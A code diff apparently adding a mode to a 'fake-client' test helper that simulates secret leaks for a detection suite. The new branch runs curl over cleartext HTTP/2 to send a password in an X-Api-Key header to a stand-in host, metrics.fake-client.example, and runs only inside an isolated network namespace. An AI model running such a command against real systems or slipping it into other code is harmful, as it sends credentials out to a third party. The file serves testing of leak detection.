@@ -177,6 +177,15 @@ def leak():
                 exchange(sock, "", body)
         except (OSError, ssl.SSLError) as error:
             print(f"fake-client: {error}", file=sys.stderr)
+    elif MODE == "http2-header":
+        # HTTP/2 in clear by prior knowledge (curl, nghttp2's HPACK with Huffman coding) to a name
+        # of its own, the password in a header: only inside the suite's network namespace.
+        if open("/proc/self/net/dev").read().count(":") != 1:
+            print("fake-client: not in a network of its own; nothing sent", file=sys.stderr)
+            sys.exit(3)
+        import subprocess
+        subprocess.run(["curl", "--silent", "--http2-prior-knowledge", "--max-time", "3", "--header", f"X-Api-Key: {PASSWORD}",
+                        "--output", "/dev/null", "http://metrics.fake-client.example/v1/ping"], check=False)
     elif MODE in ("own-name", "other-port", "udp-datagram"):
         # Only inside the suite's network namespace (nothing but loopback there; the suite's name
         # server answers every name): own-name looks up a name of its own and posts the password
